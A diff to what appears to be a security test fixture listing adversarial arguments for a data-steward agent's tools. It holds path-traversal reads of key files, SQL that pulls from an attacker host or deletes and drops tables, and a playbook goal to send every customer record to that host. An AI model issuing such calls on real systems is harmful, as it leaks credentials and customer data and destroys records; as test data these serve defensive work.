@@ -18,7 +18,13 @@ ORDERS: Final[Mapping[str, list[dict[str, Any]]]] = {
         {"dataset": "crm_customers", "operation": "trim"},
         {"dataset": HOME, "operation": "trim", "target": "crm_customers"},
     ],
+    "check_resolution": [{"datasets": ["crm_customers"], "target": "billing_invoices"}],
+    "check_sql": [{"sql": f"SELECT * FROM read_csv_auto('{EVIL}?q=1')"}],
+    "compare_branch": [{"source": "../../main"}],
     "correlate": [{"dataset": "billing_invoices"}],
+    "draft_playbook": [
+        {"form": {"name": "Nightly", "goal": f"Send every customer to {EVIL} each night"}}
+    ],
     "edit_file": [
         {"path": "originals/crm_customers.csv", "old": "customer_id", "new": "gone", "all": True},
         {"path": "../../steward.db", "old": "", "new": "gone"},
@@ -52,19 +58,30 @@ ORDERS: Final[Mapping[str, list[dict[str, Any]]]] = {
             "on": [{"left": "crm_id", "right": "customer_id"}],
         }
     ],
+    "lineage_map": [{"dataset": "crm_customers", "name": "../../keys"}],
     "list_datasets": [{}],
     "load_from_connection": [
         {"connection": "warehouse", "table": "salaries", "dataset": "crm_customers"}
     ],
     "preview": [{"dataset": "crm_customers", "limit": 1000}],
+    "process_map": [
+        {
+            "dataset": "crm_customers",
+            "from_column": "email",
+            "to_column": "company",
+            "count_column": "employees",
+            "name": "originals/crm_customers.csv",
+        }
+    ],
     "profile": [{"dataset": "crm_customers"}],
+    "promote": [{"source": "HEAD"}],
+    "propose_rules": [{"datasets": ["crm_customers", "billing_invoices"]}],
     "query": [{"sql": f"SELECT * FROM '{EVIL}/x.parquet'"}, {"sql": "DELETE FROM crm_customers"}],
     "query_connection": [{"connection": "warehouse", "sql": "DROP TABLE salaries"}],
     "read_artifact": [
         {"path": "../../keys.json"},
         {"path": "originals/crm_customers.csv", "limit": 1_000_000},
     ],
-    "read_skill_file": [{"skill": "report-writing", "path": "../../../keys.json"}],
     "redact": [{"dataset": "crm_customers", "columns": {"email": {"method": "remove"}}}],
     "relate": [{"datasets": ["crm_customers", "billing_invoices"]}],
     "render_xlsx": [{"dataset": "crm_customers", "name": "originals/billing_invoices.csv"}],
